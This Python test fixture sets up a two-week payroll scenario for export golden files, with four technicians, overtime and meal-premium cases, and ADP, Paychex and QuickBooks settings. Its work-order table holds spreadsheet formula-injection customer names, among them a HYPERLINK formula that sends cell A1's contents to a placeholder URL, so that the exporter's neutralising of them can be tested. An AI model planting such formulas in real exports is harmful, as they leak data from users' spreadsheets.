"""The fixed scenario of the export golden files: a bi-weekly period (Mon 2026-03-02 to
Sun 2026-03-15) of four technicians, with hostile names as payroll meets them: accents,
a three-part name, apostrophes, quotes, commas, a one-word display name, and customers
whose names a spreadsheet would run as formulas (=, +, @; the generic file neutralises
them, import files carry QuickBooks jobs and identities instead).

- T-100 José Núñez Ruiz (FLSA, Chicago): 10-hour days in week 1 (29 CFR 778.104: 10 hours of
  overtime over 40), odd minutes, a non-billable warranty work order on Wednesday.
- T-200 Ana "Annie" O'Neil (California, Los Angeles): a 12.5-hour Monday (Lab. Code 510: 4 hours of
  overtime and 0.5 of double time), a late meal on Tuesday (Lab. Code 226.7: one premium
  hour), a short Saturday.
- T-300 Okafor, one word on the pages; Ben Okafor in payroll (FLSA, Chicago): night shifts across midnight, one of them from the
  period's last Sunday into the next period (its Monday part is paid there).
- T-400 -Chen Wu (FLSA, Chicago): an ordinary fortnight, left unapproved in the store tests.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

from hub.export.context import ExportContext, TechnicianSheet, WorkOrderInfo
from hub.export.identities import Identity
from hub.export.period_hours import PayPeriod
from hub.rules.events import BreakKind, DriveLeg, Place, Punch, PunchAction, WorkOrderCheck
from hub.rules.timesheet import TechnicianProfile, compute_timesheets
from hub.settings import AdpExport, ExportSettings, IifExport, MileageSettings, PaychexExport, PayrollSettings
from hub.store.models import Technician

CHICAGO = ZoneInfo("America/Chicago")
LOS_ANGELES = ZoneInfo("America/Los_Angeles")
PERIOD = PayPeriod(date(2026, 3, 2), date(2026, 3, 15))
MON1, MON2 = date(2026, 3, 2), date(2026, 3, 9)

WORK_ORDERS = {
    "WO-7": WorkOrderInfo("Lakeview Dental", True, "Lakeview Dental:WO-7"),
    # warranty call-back: not billable
    "WO-9": WorkOrderInfo('=HYPERLINK("http://x"&A1,"Click")', False, "Northside Clinic:Warranty"),
    "WO-12": WorkOrderInfo("+Harbor Foods, Inc.", True, "Harbor Foods, Inc.:WO-12"),
    "WO-15": WorkOrderInfo("@Pacific Storage", True, "Pacific Storage:WO-15"),
}


@dataclass(frozen=True)
class Tech:
    id: str
    name: str
    payroll_id: str
    policy: str
    zone: str
    wage: Decimal
    given_name: str
    family_name: str
    identities: dict[str, Identity]

    @property
    def tz(self) -> ZoneInfo:
        return ZoneInfo(self.zone)

    def row(self) -> Technician:
        return Technician(
            id=self.id, name=self.name, given_name=self.given_name, family_name=self.family_name,
            job_title="Field technician", payroll_id=self.payroll_id,
            wage=self.wage, cost_rate=self.wage * Decimal("1.3"), billing_rate=Decimal("125"),
            overtime_policy=self.policy, payroll_timezone=self.zone, home_depot_id="north",
            tracks_time=True, active=True,
        )


def _ids(n: int, gusto: str, quickbooks: str) -> dict[str, Identity]:
    return {"adp": Identity(f"{n:06d}"), "paychex": Identity(f"T{n}"), "gusto": Identity(gusto),
            "iif": Identity(None, quickbooks)}


TECHNICIANS = (
    Tech("T-100", "José Núñez Ruiz", "000100", "flsa", "America/Chicago", Decimal("30.00"), "José", "Núñez Ruiz",
         _ids(100, "a1b2c3", "Núñez Ruiz, José")),
    Tech("T-200", 'Ana "Annie" O\'Neil', "000200", "california", "America/Los_Angeles", Decimal("34.50"), "Ana",
         "O'Neil", _ids(200, "d4e5f6", "O'Neil, Ana")),
    Tech("T-300", "Okafor", "000300", "flsa", "America/Chicago", Decimal("28.00"), "Ben", "Okafor",
         _ids(300, "g7h8i9", "Okafor, Ben")),
    Tech("T-400", "-Chen Wu", "000400", "flsa", "America/Chicago", Decimal("29.00"), "Chen", "Wu",
         _ids(400, "j1k2l3", "Wu, Chen")),
)


def identities(provider: str | None) -> dict[str, Identity]:
    """Each technician's identity in `provider` (none for DepotClock's own CSV)."""
    return {} if provider is None else {t.id: t.identities[provider] for t in TECHNICIANS}


class _Day:
    """One technician's events of one shift, written as the day went."""

    def __init__(self, tech: Tech, day: date, ids):
        self.tech, self.day, self.ids, self.events = tech, day, ids, []

    def at(self, hhmm: str, next_day: bool = False) -> datetime:
        hour, minute = map(int, hhmm.split(":"))
        day = self.day + timedelta(days=1) if next_day else self.day
        return datetime(day.year, day.month, day.day, hour, minute, tzinfo=self.tech.tz)

    def punch(self, action: PunchAction, when: datetime, kind: BreakKind | None = None) -> None:
        self.events.append(Punch(f"{self.tech.id}-{next(self.ids)}", self.tech.id, action, when, kind))

    def drive(self, start: datetime, end: datetime, origin: str, destination: str, wo=None) -> None:
        self.events.append(DriveLeg(f"{self.tech.id}-{next(self.ids)}", self.tech.id, start, end, 14.0,
                                    Place(origin), Place(destination), wo))

    def visit(self, wo: str, start: datetime, end: datetime) -> None:
        for when, check_in in ((start, True), (end, False)):
            self.events.append(WorkOrderCheck(f"{self.tech.id}-{next(self.ids)}", self.tech.id, wo,
                                              when, check_in))

    def brk(self, start: datetime, end: datetime, kind: str) -> None:
        self.punch(PunchAction.BREAK_START, start, BreakKind(kind))
        self.punch(PunchAction.BREAK_END, end)


def field_day(tech: Tech, day: date, ids, start: str, end: str, jobs, meals=(), rests=(),
              overnight: bool = False) -> list:
    """Clock in at the depot, drive to each job (wo, arrive, leave), drive back, clock out.
    Times after `end` < `start` fall on the next day when `overnight`."""
    d = _Day(tech, day, ids)

    def when(hhmm: str) -> datetime:
        return d.at(hhmm, overnight and hhmm < start)

    d.punch(PunchAction.CLOCK_IN, when(start))
    place, left = "depot", when(start) + timedelta(minutes=10)
    for wo, arrive, leave in jobs:
        d.drive(left, when(arrive), place, "site", wo)
        d.visit(wo, when(arrive), when(leave))
        place, left = "site", when(leave)
    d.drive(left, when(end) - timedelta(minutes=10), place, "depot")
    for first, last in meals:
        d.brk(when(first), when(last), "meal")
    for first, last in rests:
        d.brk(when(first), when(last), "rest")
    d.punch(PunchAction.CLOCK_OUT, when(end))
    return d.events


def events() -> list:
    ids = itertools.count(1)
    maria, ana, ben, chen = TECHNICIANS
    found = []
    # T-100: week 1 of 10-hour days and odd minutes, week 2 of 8-hour days
    ends = ["17:30", "17:41", "17:30", "17:47", "17:30"]
    for offset, end in enumerate(ends):
        wo = "WO-9" if offset == 2 else "WO-7"
        found += field_day(maria, MON1 + timedelta(days=offset), ids, "07:00", end,
                           [(wo, "07:40", "11:30"), ("WO-12", "12:20", "16:50")], meals=[("11:30", "12:00")])
    for offset in range(5):
        found += field_day(maria, MON2 + timedelta(days=offset), ids, "07:00", "15:30",
                           [("WO-7", "07:35", "11:30"), ("WO-12", "12:15", "15:00")], meals=[("11:30", "12:00")])
    # T-200: California
    found += field_day(ana, MON1, ids, "06:00", "19:30",
                       [("WO-15", "06:40", "12:00"), ("WO-12", "12:50", "19:00")],
                       meals=[("10:30", "11:00"), ("15:30", "16:00")],
                       rests=[("08:30", "08:40"), ("13:30", "13:40"), ("17:30", "17:40")])
    found += field_day(ana, MON1 + timedelta(days=1), ids, "07:00", "16:30",
                       [("WO-15", "07:35", "16:00")], meals=[("13:00", "13:30")],
                       rests=[("09:30", "09:40"), ("15:00", "15:10")])  # the meal after hour 5: late
    for offset in (2, 3, 4):
        found += field_day(ana, MON1 + timedelta(days=offset), ids, "07:00", "15:30",
                           [("WO-15", "07:30", "15:00")], meals=[("11:00", "11:30")],
                           rests=[("09:00", "09:10"), ("13:30", "13:40")])
    for offset in range(4):
        found += field_day(ana, MON2 + timedelta(days=offset), ids, "07:00", "15:30",
                           [("WO-12", "07:30", "15:00")], meals=[("11:00", "11:30")],
                           rests=[("09:00", "09:10"), ("13:30", "13:40")])
    found += field_day(ana, MON2 + timedelta(days=5), ids, "07:00", "12:00",
                       [("WO-15", "07:30", "11:40")], rests=[("09:30", "09:40")])
    # T-300: nights, 22:00 to 06:40 with a meal at 02:00; the last from Sunday 15 into Monday 16
    for night in (MON1, MON1 + timedelta(days=1), MON1 + timedelta(days=2), MON1 + timedelta(days=3),
                  MON2 - timedelta(days=1), MON2 + timedelta(days=1), MON2 + timedelta(days=2),
                  PERIOD.end):
        found += field_day(ben, night, ids, "22:00", "06:40", [("WO-7", "22:30", "05:50")],
                           meals=[("02:00", "02:30")], overnight=True)
    # T-400: an ordinary fortnight
    for offset in (0, 1, 2, 3, 4, 7, 8, 9, 10, 11):
        found += field_day(chen, MON1 + timedelta(days=offset), ids, "08:00", "16:30",
                           [("WO-12", "08:30", "16:00")], meals=[("12:00", "12:30")])
    return found


def profiles(payroll: PayrollSettings = PayrollSettings()) -> dict[str, TechnicianProfile]:
    billable = frozenset(wo for wo, info in WORK_ORDERS.items() if info.billable)
    return {
        t.id: TechnicianProfile(t.id, t.wage, t.tz, replace(payroll.policy(t.policy), billable_work_orders=billable))
        for t in TECHNICIANS
    }


def sheets(only: tuple[str, ...] = ("T-100", "T-200", "T-300")) -> list[TechnicianSheet]:
    rows = {t.id: t.row() for t in TECHNICIANS}
    return [TechnicianSheet(rows[s.tech], s, {})
            for s in compute_timesheets(events(), profiles()) if s.tech in only]


SETTINGS = ExportSettings(
    adp=AdpExport(company_code="DC1", batch_id="MAR"),
    paychex=PaychexExport(client_id="70012345"),
    iif=IifExport(company_name="Depot Services LLC", company_create_time=1767225600),
    mileage=MileageSettings(unit="mile", rate=Decimal("0.70")),
)
EXPORT_ID = 1  # the export's number in the golden files (ADP's Batch ID)


def context(preview: bool = False, provider: str | None = None) -> ExportContext:
    return ExportContext(PERIOD, SETTINGS, preview, dict(WORK_ORDERS), identities(provider), EXPORT_ID)
